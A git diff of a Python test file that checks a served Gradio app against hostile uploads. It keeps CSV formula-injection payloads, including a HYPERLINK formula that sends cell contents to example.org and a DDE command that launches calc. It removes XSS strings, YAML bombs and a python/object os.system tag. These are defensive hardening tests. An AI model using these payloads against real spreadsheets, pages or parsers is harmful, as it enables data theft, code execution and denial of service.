@@ -11,7 +11,6 @@ from typing import Any
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
-import yaml
 from served_space import (
     Served,
     called,
@@ -24,14 +23,10 @@ from served_space import (
     write_rows,
 )
 
-from normscope.space.context_review import EXAMPLE as FILE
-
 pytest.importorskip("gradio_client", reason="needs gradio_client: pip install 'normscope[space]'")
 
-EXAMPLE = yaml.safe_load(FILE.read_text(encoding="utf-8"))
 LINK = '=HYPERLINK("http://example.org/?"&A1,"look")'
 FORMULAS = [LINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "  =1+1", "=cmd|' /C calc'!A0"]
-SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)> </style></pre>{{7*7}}${7*7}"
 RUNS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -57,55 +52,9 @@ def test_formulas_come_back_inert_in_every_cell_and_header(client: Any, tmp_path
     assert "href" not in report.read_text().split("HYPERLINK", 1)[1][:40]
 
 
-def test_markup_in_a_file_is_none_in_its_report(client: Any, tmp_path: Path) -> None:
-    rows = [[SCRIPT, SCRIPT, SCRIPT]] * 20
-    path = write_rows(tmp_path / "a.csv", [["question", "answer", "category"], *rows])
-    _, files = client.predict(upload(path), *[""] * 5, api_name="/score_file")
-    report = Path(files[2]).read_text(encoding="utf-8")
-    for told in ("<script>alert", "<img src=x", "</pre>{{"):
-        assert told not in report
-
-
-LAUGHS = "a: &a [x, x]\n" + "".join(
-    f"{name}: &{name} [*{before}, *{before}]\n"
-    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
-)
-PRODUCT = {
-    **EXAMPLE,
-    "factors": {
-        name: {"levels": [f"{name} {n}" for n in range(400)]} for name in EXAMPLE["factors"]
-    },
-}
-
-
-@pytest.mark.parametrize(
-    ("text", "told"),
-    [
-        (LAUGHS, "aliases"),
-        ("a: &a {b: 1}\nc: {<<: *a}", "aliases"),
-        ("a: &a [*a]", "aliases"),
-        ("x: " + "y" * 5_000_000, "characters"),
-        ("[" * 20_000, "beyond reason|not valid YAML"),
-        ("a: [" + "{b: [" * 40 + "]}" * 40 + "]", "beyond reason"),
-        ("{a: " * 10_000, "beyond reason|not valid YAML"),
-        ("!!python/object/apply:os.system [id]", "not valid YAML"),
-        ("a: \x00", "not valid YAML"),
-    ],
-    ids=["laughs", "merge", "own", "huge", "open", "deep", "braces", "tag", "null"],
-)
-def test_a_yaml_bomb_is_refused_at_once(client: Any, text: str, told: str) -> None:
-    begun = time.monotonic()
-    with pytest.raises(Exception, match=told):
-        client.predict(text, api_name="/check_context")
-    assert time.monotonic() - begun < 10
-
-
-def test_a_product_beyond_reason_is_told_and_not_made(client: Any) -> None:
-    begun = time.monotonic()
-    found = client.predict(yaml.safe_dump(PRODUCT), api_name="/check_context")
-    # 400 to the power of four
-    assert any("more than 50,000" in one["text"] for one in found["findings"])
-    assert time.monotonic() - begun < 10
+def test_a_body_of_a_context_of_five_megabytes_is_refused(client: Any) -> None:
+    with pytest.raises(Exception, match="characters"):
+        client.predict("x: " + "y" * 5_000_000, api_name="/check_context")
 
 
 def test_a_long_list_of_scalars_within_the_limit_is_answered(client: Any) -> None:
